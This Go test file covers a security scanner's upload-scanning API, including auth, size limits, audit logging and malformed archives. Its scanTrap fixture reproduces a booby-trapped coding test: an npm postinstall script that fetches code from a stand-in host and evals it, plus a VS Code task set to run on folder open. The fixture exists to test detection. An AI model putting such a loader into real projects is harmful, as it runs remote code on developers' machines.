package httpapi

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/bulwark-sec/bulwark/scan"
)

// scanTrap is a booby-trapped "coding test": an install script that
// evaluates what a server sends, and a VS Code task run on opening the
// folder.
var scanTrap = map[string]string{
	"package/package.json": `{"name": "take-home", "version": "1.0.0", "scripts": {"postinstall": "node scripts/setup.js"}}` + "\n",
	"package/scripts/setup.js": "const axios = require('axios');\n" +
		"axios.get('https://license-check.invalid/key').then((res) => eval(res.data));\n",
	"package/.vscode/tasks.json": `{"version": "2.0.0", "tasks": [{"label": "setup", "type": "shell", "command": "node scripts/setup.js", "runOptions": {"runOn": "folderOpen"}}]}` + "\n",
}

var scanClean = map[string]string{
	"todo/package.json": `{"name": "todo", "version": "1.0.0", "dependencies": {"express": "^4.19.0"}}` + "\n",
	"todo/index.js":     "const express = require('express');\nconst app = express();\napp.get('/', (req, res) => res.send('ok'));\n",
}

// tgzOf and zipOf pack files (sorted by name) as a gzipped tar or a zip.
func tgzOf(t testing.TB, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, name := range sortedKeys(files) {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name])), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(files[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func zipOf(t testing.TB, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range sortedKeys(files) {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(files[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func sortedKeys(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// multipartOf is a form with a text field and, when name is not empty, a
// file field holding data; it returns the body and its Content-Type.
func multipartOf(t testing.TB, name string, data []byte) (string, string) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	if err := mw.WriteField("note", "from the recruiter"); err != nil {
		t.Fatal(err)
	}
	if name != "" {
		w, err := mw.CreateFormFile("file", name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	if err := mw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.String(), mw.FormDataContentType()
}

// pathRecorder is a scanner that notes the paths it was given, to check
// that the upload's temporary file is gone afterwards.
type pathRecorder struct {
	s     *scan.Scanner
	mu    sync.Mutex
	paths []string
}

func (p *pathRecorder) Scan(ctx context.Context, path string) (*scan.Report, error) {
	p.mu.Lock()
	p.paths = append(p.paths, path)
	p.mu.Unlock()
	return p.s.Scan(ctx, path)
}

var (
	testScannerOnce sync.Once
	testScanner     *scan.Scanner
	testScannerErr  error
)

// withScanner configures the scan route with the built-in rules and
// detectors, as serve does.
func withScanner(rec *pathRecorder) func(*Config) {
	return func(c *Config) {
		testScannerOnce.Do(func() {
			reg, err := scan.DetectorRegistry(scan.DetectOptions{})
			if err != nil {
				testScannerErr = err
				return
			}
			rules, err := scan.DefaultRules(reg)
			if err != nil {
				testScannerErr = err
				return
			}
			testScanner, testScannerErr = scan.NewScanner(scan.Options{Rules: rules, Detectors: scan.Detectors(scan.DetectOptions{})})
		})
		if testScannerErr != nil {
			panic(testScannerErr)
		}
		rec.s = testScanner
		c.Scanner = rec
	}
}

func scanHeaders(who, ct string) map[string]string {
	h := bearerFor(who)
	h["Content-Type"] = ct
	return h
}

// scanAudited checks the answer and the audit entry of a scan: the
// verdict, the upload's SHA-256 as the target, the rule ids, the actor;
// and that the temporary file is gone.
func scanAudited(verdict string, data []byte, rules []string, rec *pathRecorder) func(*testing.T, *env, *httptest.ResponseRecorder) {
	return func(t *testing.T, e *env, resp *httptest.ResponseRecorder) {
		t.Helper()
		var out struct {
			Verdict  string `json:"verdict"`
			SHA256   string `json:"sha256"`
			AuditSeq int64  `json:"auditSeq"`
			Findings []struct {
				Rule, Severity, File, Snippet, Explanation string
				Line                                       int
			} `json:"findings"`
		}
		if err := json.Unmarshal(resp.Body.Bytes(), &out); err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256(data)
		if want := hex.EncodeToString(sum[:]); out.SHA256 != want {
			t.Errorf("sha256 %s, want %s", out.SHA256, want)
		}
		if out.Verdict != verdict {
			t.Errorf("verdict %s, want %s", out.Verdict, verdict)
		}
		var found []string
		for _, f := range out.Findings {
			found = append(found, f.Rule)
		}
		for _, r := range rules {
			if !slices.Contains(found, r) {
				t.Errorf("no %s finding in %v", r, found)
			}
		}
		var entry bool
		for _, en := range e.auditEntries() {
			if en.Seq != out.AuditSeq {
				continue
			}
			entry = true
			if en.Action != "scan.repo" || en.Target != "sha256:"+out.SHA256 || en.Actor != "token:"+e.ids["analyst"] {
				t.Errorf("audit entry %+v, want scan.repo of sha256:%s by the analyst", en, out.SHA256)
			}
			d, _ := json.Marshal(en.Details)
			if !strings.Contains(string(d), `"verdict":"`+verdict+`"`) {
				t.Errorf("audit details %s lack the verdict %s", d, verdict)
			}
			for _, r := range rules {
				if !strings.Contains(string(d), `"`+r+`"`) {
					t.Errorf("audit details %s lack the rule %s", d, r)
				}
			}
			if strings.Contains(string(d), "eval(") {
				t.Errorf("audit details carry the upload's content: %s", d)
			}
		}
		if !entry {
			t.Errorf("no audit entry %d", out.AuditSeq)
		}
		rec.mu.Lock()
		defer rec.mu.Unlock()
		if len(rec.paths) == 0 {
			t.Error("the scanner was not called")
		}
		for _, p := range rec.paths {
			if _, err := os.Stat(p); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("the upload's temporary file %s is still there (%v)", p, err)
			}
		}
	}
}

// noScanAudit checks that a refused upload left no audit entry.
func noScanAudit(t *testing.T, e *env, _ *httptest.ResponseRecorder) {
	t.Helper()
	for _, en := range e.auditEntries() {
		if en.Action == "scan.repo" {
			t.Errorf("audit entry for a refused scan: %+v", en)
		}
	}
}

func TestScanAPI(t *testing.T) {
	t.Parallel()
	const path = "/api/v1/scan"
	trapTgz, trapZip, cleanZip := tgzOf(t, scanTrap), zipOf(t, scanTrap), zipOf(t, scanClean)
	form, formType := multipartOf(t, "take-home.zip", trapZip)
	noFile, noFileType := multipartOf(t, "", nil)
	textFile, textFileType := multipartOf(t, "notes.txt", []byte("hello"))
	big := strings.Repeat("x", 2048)
	recs := map[string]*pathRecorder{}
	rec := func(name string) *pathRecorder {
		if recs[name] == nil {
			recs[name] = &pathRecorder{}
		}
		return recs[name]
	}
	limit := func(n int64) func(*Config) {
		return func(c *Config) { withScanner(&pathRecorder{})(c); c.ScanMaxBytes = n }
	}
	runScenarios(t, []scenario{
		{name: "trap tgz blocked", configure: withScanner(rec("tgz")), method: "POST", path: path, headers: scanHeaders("analyst", "application/gzip"), body: string(trapTgz),
			wantStatus: http.StatusOK, wantBody: []string{`"verdict":"block"`, `"rule":"NPM-LIFECYCLE-SCRIPT"`, `"file":"package/package.json"`, `"explanation":"`, `"auditSeq":`},
			notBody: []string{"bulwark-scan-"}, after: scanAudited("block", trapTgz, []string{"NPM-LIFECYCLE-SCRIPT", "VSCODE-AUTORUN-TASK", "JS-EVAL-REMOTE-RESPONSE"}, rec("tgz"))},
		{name: "trap zip blocked", configure: withScanner(rec("zip")), method: "POST", path: path, headers: scanHeaders("analyst", "application/zip"), body: string(trapZip),
			wantStatus: http.StatusOK, after: scanAudited("block", trapZip, []string{"VSCODE-AUTORUN-TASK"}, rec("zip"))},
		{name: "trap as multipart", configure: withScanner(rec("form")), method: "POST", path: path, headers: scanHeaders("analyst", formType), body: form,
			wantStatus: http.StatusOK, after: scanAudited("block", trapZip, []string{"NPM-LIFECYCLE-SCRIPT"}, rec("form"))},
		{name: "clean zip", configure: withScanner(rec("clean")), method: "POST", path: path, headers: scanHeaders("analyst", "application/zip"), body: string(cleanZip),
			wantStatus: http.StatusOK, wantBody: []string{`"verdict":"clear"`}, after: scanAudited("clear", cleanZip, nil, rec("clean"))},
		{name: "admin may scan", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: scanHeaders("admin", "application/zip"), body: string(cleanZip),
			wantStatus: http.StatusOK, wantBody: []string{`"verdict":"clear"`}},
		{name: "viewer may not", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: scanHeaders("viewer", "application/zip"), body: string(trapZip),
			wantStatus: http.StatusForbidden, wantCode: "forbidden", after: noScanAudit},
		{name: "no token", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: map[string]string{"Content-Type": "application/zip"}, body: string(trapZip),
			wantStatus: http.StatusUnauthorized, wantCode: "unauthorized", after: noScanAudit},
		{name: "not a zip", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: scanHeaders("analyst", "application/zip"), body: "this is not a zip file",
			wantStatus: http.StatusBadRequest, wantCode: "invalid", wantMsg: []string{"the upload: "}, notBody: []string{"bulwark-scan-", os.TempDir()}, after: noScanAudit},
		{name: "not a gzip", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: scanHeaders("analyst", "application/gzip"), body: "plain text",
			wantStatus: http.StatusBadRequest, wantCode: "invalid", wantMsg: []string{"the upload: not a gzip-compressed tar"}, after: noScanAudit},
		{name: "truncated zip", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: scanHeaders("analyst", "application/zip"), body: string(trapZip[:len(trapZip)/2]),
			wantStatus: http.StatusBadRequest, wantCode: "invalid", wantMsg: []string{"the upload"}, after: noScanAudit},
		{name: "empty body", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: scanHeaders("analyst", "application/zip"),
			wantStatus: http.StatusBadRequest, wantCode: "invalid", wantMsg: []string{"is empty"}, after: noScanAudit},
		{name: "multipart without a file", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: scanHeaders("analyst", noFileType), body: noFile,
			wantStatus: http.StatusBadRequest, wantCode: "invalid", wantMsg: []string{"holds no file"}, after: noScanAudit},
		{name: "multipart text file", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: scanHeaders("analyst", textFileType), body: textFile,
			wantStatus: http.StatusBadRequest, wantCode: "invalid", wantMsg: []string{`the upload "notes.txt": not a .zip`}, after: noScanAudit},
		{name: "json is not an archive", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: jsonHeaders("analyst"), body: `{"repo": "x"}`,
			wantStatus: http.StatusBadRequest, wantCode: "invalid", wantField: "Content-Type", after: noScanAudit},
		{name: "no content type", configure: withScanner(&pathRecorder{}), method: "POST", path: path, headers: bearerFor("analyst"), body: string(trapZip),
			wantStatus: http.StatusBadRequest, wantCode: "invalid", wantMsg: []string{"the header is missing"}, after: noScanAudit},
		{name: "too large", configure: limit(1024), method: "POST", path: path, headers: scanHeaders("analyst", "application/zip"), body: big,
			wantStatus: http.StatusRequestEntityTooLarge, wantCode: "too_large", wantMsg: []string{"1 KiB"}, after: noScanAudit},
		{name: "too large as multipart", configure: limit(1024), method: "POST", path: path, headers: scanHeaders("analyst", formType), body: form,
			wantStatus: http.StatusRequestEntityTooLarge, wantCode: "too_large", after: noScanAudit},
		{name: "not configured", method: "POST", path: path, headers: scanHeaders("analyst", "application/zip"), body: string(trapZip),
			wantStatus: http.StatusServiceUnavailable, wantCode: "unavailable", after: noScanAudit},
		{name: "get is not allowed", configure: withScanner(&pathRecorder{}), method: "GET", path: path, headers: bearerFor("analyst"),
			wantStatus: http.StatusMethodNotAllowed, wantHeaders: map[string]string{"Allow": "POST"}},
	})
}

// TestScanAPIStreamedTooLarge: a body of unknown length (chunked) over
// the limit is cut at the limit and refused with 413.
func TestScanAPIStreamedTooLarge(t *testing.T) {
	t.Parallel()
	e := newEnv(t, func(c *Config) { withScanner(&pathRecorder{})(c); c.ScanMaxBytes = 1024 })
	req := httptest.NewRequest("POST", "/api/v1/scan", strings.NewReader(strings.Repeat("x", 4096)))
	req.ContentLength = -1
	req.Header.Set("Authorization", "Bearer "+e.secrets["analyst"])
	req.Header.Set("Content-Type", "application/gzip")
	rec := httptest.NewRecorder()
	e.srv.Handler().ServeHTTP(rec, req)
	if rec.Code != http.StatusRequestEntityTooLarge || decodeErrorBody(t, rec.Body.Bytes()).Code != "too_large" {
		t.Fatalf("status %d, body %s; want 413 too_large", rec.Code, rec.Body.String())
	}
	noScanAudit(t, e, rec)
}
